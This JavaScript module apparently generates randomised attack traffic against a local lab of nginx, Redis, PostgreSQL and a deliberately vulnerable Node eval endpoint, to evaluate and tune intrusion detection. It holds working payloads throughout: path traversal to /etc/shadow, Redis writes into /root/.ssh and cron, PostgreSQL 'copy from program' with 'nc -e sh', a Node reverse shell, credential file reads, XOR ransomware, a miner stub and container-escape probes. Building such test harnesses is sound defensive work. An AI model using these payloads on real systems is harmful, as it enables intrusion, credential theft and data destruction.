// SPDX-License-Identifier: GPL-2.0
// What an intruder does, as functions of a random source, so that no two are the same.
// "chosen" are those of the evaluation; "other" and "slow" are of other kinds, and were
// used to choose how detection works.
'use strict';
const { web, app, Redis, Sql } = require('./use.js');

const hex = (s) => [...Buffer.from(s)].map((b) => '%' + b.toString(16).padStart(2, '0')).join('');
// The hole of app.js: it runs what it is sent.
const js = (code) => app(`/eval?n=${hex(code)}`);
const cut = (r, list, least) => r.shuffle([...list]).slice(0, r.from(least, list.length));
const each = (list, what) => `${JSON.stringify(list)}.map(f=>{try{return ${what}}catch(e){return e.code}})`;

async function redis(...commands) {
  const c = new Redis();
  for (const words of commands) await c.ask(...words);
  c.end();
}

async function sql(db, ...statements) {
  const c = new Sql(db);
  for (const s of statements) await c.run(s);
  await c.end();
}

const chosen = {
  // The slip of an alias without its slash (see init): reads beside the folder.
  'nginx:traversal': async (r) => {
    for (const p of cut(r, ['/..%2f..%2fetc%2fpasswd', '/.%2e/.%2e/etc/shadow', '/static../../../etc/passwd', '/%2e%2e/x'], 1)) await web(p);
    for (const p of cut(r, ['db.conf', 'users.txt', '.htpasswd', 'backup.sql'], 1)) await web('/static../private/' + p);
  },
  'nginx:scan': async (r) => {
    const names = ['admin', 'wp-login.php', '.git/config', '.env', 'phpmyadmin', 'cgi-bin/x', 'server-status', 'backup.zip', 'api/v1', 'console', 'solr', 'actuator', 'login', 'old', 'test', 'x.php', '.svn', '.DS_Store', 'config.json', 'dump.sql', 'tmp', 'shell', 'setup.php', 'vendor'];
    for (const p of cut(r, names, 10)) await web('/' + p);
  },
  'nginx:mass-read': async (r) => {
    for (const i of cut(r, [...Array(40).keys()], 16)) await web(`/p${i}.html`);
  },
  'redis:dump-elsewhere': async (r) => redis(['config', 'set', 'dir', r.pick(['/etc', '/root/.ssh', '/var/www/html', '/var/spool/cron'])],
    ['config', 'set', 'dbfilename', r.pick(['x.so', 'authorized_keys', 'root'])], ['save'],
    ['config', 'set', 'dir', '/var/lib/redis'], ['config', 'set', 'dbfilename', 'dump.rdb']),
  'redis:flood-keys': async (r) => redis(['eval', `for i=1,${r.from(2000, 9000)} do redis.call("set","f"..i,i) end return redis.call("keys","*")`, 0],
    [r.pick(['bgsave', 'save'])], ['flushall']),
  'redis:module': async (r) => redis(['config', 'set', 'dbfilename', `m${r.below(9)}.so`], ['save'],
    ['module', 'load', `/var/lib/redis/m${r.below(9)}.so`], ['config', 'set', 'dbfilename', 'dump.rdb']),
  'postgresql:read-file': async (r) => sql('postgres', ...cut(r, ["select pg_read_file('/etc/passwd');", "select pg_ls_dir('/etc');",
    "select pg_read_file('pg_hba.conf');", "select pg_read_file('/etc/postgresql/15/main/pg_hba.conf');",
    "create temp table z(t text); copy z from '/etc/hostname';", "select pg_read_file('postmaster.opts');"], 2)),
  'postgresql:program': async (r) => sql('postgres', 'create table if not exists c(t text);',
    `copy c from program '${r.pick(['id', 'cat /etc/passwd', 'curl 127.0.0.1', 'nc -e sh 127.0.0.1 4444'])}';`),
  'postgresql:exfil': async (r) => sql('shop', `copy item to '/var/lib/postgresql/15/main/${r.pick(['out', 'x', 'base/y'])}${r.below(99)}';`,
    r.pick(["select lo_from_bytea(0, string_agg(name, ',')::bytea) from item;", "select lo_import('/var/lib/postgresql/15/main/PG_VERSION');"])),
  'postgresql:rewrite': async (r) => sql('shop', ...r.pick([
    ['begin; create table z as select * from item; drop table item; alter table z rename to item; commit; vacuum full;'],
    ["update item set name = md5(name);", 'vacuum full item;'],
    ['create table z as select id, md5(name) as name, price from item;', 'truncate item;', 'insert into item select * from z;', 'drop table z;', 'vacuum full;'],
  ])),
  'node:shell': async (r) => js(`require('child_process').${r.pick([
    "spawnSync('/bin/sh',['-c','id']).error", "execSync('uname -a')", "spawnSync('/usr/bin/id').error", "execFileSync('/bin/busybox',['sh'])"])}`),
  'node:reverse-shell': async (r) => js(`const s=require('net').connect(${r.from(4000, 9999)},'127.0.0.1');s.on('error',()=>0);
    const c=require('child_process').spawn('${r.pick(['/bin/sh', '/bin/bash', '/usr/bin/dash'])}',['-i']);c.on('error',()=>s.destroy())`),
  'node:credentials': async (r) => js(each(cut(r, ['/etc/shadow', '/etc/passwd', '/root/.ssh/id_rsa', '/proc/self/environ', '/etc/redis/redis.conf', '/root/.aws/credentials', '/proc/self/maps'], 3), "fs.readFileSync(f)")),
  'node:ransom': async (r) => js(`const k=${r.from(1, 255)};fs.readdirSync(data).filter(f=>f!='up').slice(0,${r.from(15, 60)}).map(f=>{const p=data+'/'+f;const x=fs.readFileSync(p);` + r.pick([
    "fs.writeFileSync(p+'.k',x.map(v=>v^k));fs.unlinkSync(p);fs.renameSync(p+'.k',p)", "fs.writeFileSync(p,x.map(v=>v^k));fs.renameSync(p,p+'.locked');fs.renameSync(p+'.locked',p)"]) + '})'),
  'node:exfil': async (r) => js(`fs.readdirSync(data).filter(f=>f!='up').slice(0,${r.from(20, 60)}).map(f=>{try{return fs.readFileSync(data+'/'+f)}catch(e){}}).join('')`),
  // One customer after another, as slowly as a patient reader would.
  'node:slow-exfil': async (r, sleep) => {
    const pace = r.from(2, 6);
    for (let i = 0; i < 40; i++) { await js(`fs.readFileSync(data+'/c${i}')`); await sleep(pace * (0.5 + r.next())); }
  },
  'node:miner': async (r) => js(`const s=require('net').connect(${r.pick([6379, 3333, 14444])},'127.0.0.1');s.on('error',()=>0);let h='';for(let i=0;i<${r.from(500, 3000)};i++)h=require('crypto').createHash('sha256').update(h+i).digest('hex');fs.writeFileSync(data+'/${r.pick(['m', '.x', 'xmrig', 'kworker'])}',h,{mode:0o755});` + r.pick(['', `require('child_process').spawn(data+'/m').on('error',()=>0);`]) + 'setTimeout(()=>s.destroy(),300)'),
  'node:escape': async (r) => js(each(cut(r, ['/proc/1/root/etc/shadow', '/sys/fs/cgroup/release_agent', '/dev/vda', '/proc/sys/kernel/core_pattern', '/run/docker.sock', '/proc/sysrq-trigger', '/sys/kernel/uevent_helper'], 2), "fs.openSync(f,'r+')")),
  'node:scan': async (r) => js(`for(let p=${r.from(10, 50)},i=0;i<${r.from(15, 60)};i++){const s=require('net').connect(p+i,'127.0.0.1');s.on('error',()=>0)}`),
};

const other = {
  'nginx:slow-loris': async (r, sleep) => {
    const all = [...Array(r.from(10, 30))].map(() => new Redis());
    await sleep(2);
    all.forEach((c) => c.end());
    for (let i = r.from(8, 20); i > 0; i--) web('/', { headers: { 'X-A': 'b' } });
    await sleep(1);
  },
  'nginx:methods': async (r) => { for (let i = r.from(10, 30); i > 0; i--) await web('/', { method: r.pick(['PROPFIND', 'TRACE', 'PATCH', 'DELETE', 'MKCOL']) }); },
  'redis:config': async (r) => redis(['config', 'get', '*'], ['config', 'set', 'appendonly', 'yes'], ['config', 'set', 'appendonly', 'no'], ['config', 'rewrite']),
  'redis:replica': async (r, sleep) => { await redis(['replicaof', '127.0.0.1', r.from(7000, 7999)]); await sleep(3); await redis(['replicaof', 'no', 'one']); },
  'postgresql:enumerate': async (r) => sql('postgres', ...cut(r, ['select pg_ls_logdir();', 'select pg_ls_waldir();', "select pg_stat_file('base');",
    'select * from pg_shadow;', "select pg_ls_dir('.');", "select pg_ls_dir('base');"], 3)),
  'postgresql:function': async (r) => sql('postgres', `create or replace function sys(text) returns int as '/${r.pick(['tmp/x.so', 'lib/x86_64-linux-gnu/libc.so.6'])}', 'system' language c strict;`, "select lo_import('/etc/hosts');"),
  'node:walk': async (r) => js(each(cut(r, ['/etc', '/proc', '/root', '/home', '/var', '/var/www', '/var/lib/redis', '/usr/lib', '/tmp'], 3), 'fs.readdirSync(f)')),
  'node:implant': async (r) => js(each(cut(r, ['/app/app.js', '/app/pages/x', '/etc/cron.d/x', '/usr/local/bin/x', '/app/node_modules'], 2), "fs.writeFileSync(f,'x')")),
  'node:wipe': async (r) => js(`fs.readdirSync(data).filter(f=>f!='up').slice(0,${r.from(10, 30)}).map(f=>{const x=fs.readFileSync(data+'/'+f);fs.truncateSync(data+'/'+f,0);fs.writeFileSync(data+'/'+f,x)})`),
  'node:listen': async (r) => js(`const s=require('net').createServer();s.on('error',()=>0);s.listen(${r.from(9000, 9999)});setTimeout(()=>s.close(),500)`),
};

// What is allowed, in many small steps.
async function steps(r, sleep, list, pace, what) {
  for (const x of list) { await what(x); await sleep(pace * (0.5 + r.next())); }
}
const some = (r, n, least) => r.shuffle([...Array(n).keys()]).slice(0, r.from(least, n));

const slow = {
  'nginx:hotlink': async (r, sleep) => steps(r, sleep, [...some(r, 9, 8), ...some(r, 9, 8)], r.from(2, 8), (i) => web(`/static/i${i}.png`)),
  'nginx:guess': async (r, sleep) => steps(r, sleep, [...Array(r.from(40, 90)).keys()], r.from(1, 2), () => web('/', { method: 'POST', body: 'p' })),
  'nginx:hammer': async (r) => { for (let i = r.from(60, 150); i > 0; i--) await web(`/p${r.below(3)}.html`); },
  'node:pages': async (r) => { for (const i of some(r, 40, 25)) await app(`/page?n=p${i}`); },
  'node:slow-pages': async (r, sleep) => steps(r, sleep, some(r, 40, 35), r.from(8, 12), (i) => app(`/page?n=p${i}`)),
  'node:deface': async (r, sleep) => steps(r, sleep, some(r, 40, 30), r.from(2, 6), (i) => app(`/order?n=c${i}`)),
  'node:fill': async (r, sleep) => steps(r, sleep, some(r, 60, 40), r.from(1, 4), (i) => app(`/upload?n=u${i}`, { method: 'POST' })),
  'node:empty': async (r, sleep) => steps(r, sleep, some(r, 60, 40), r.from(1, 4), (i) => app(`/remove?n=u${i}`)),
  'redis:guess': async (r, sleep) => steps(r, sleep, [...Array(r.from(50, 120)).keys()], r.from(1, 2), () => redis(['auth', 'x'])),
  'postgresql:guess': async (r, sleep) => steps(r, sleep, [...Array(r.from(12, 25)).keys()], r.from(4, 8), () => sql('none', 'select 1;')),
};

module.exports = { chosen, other, slow };
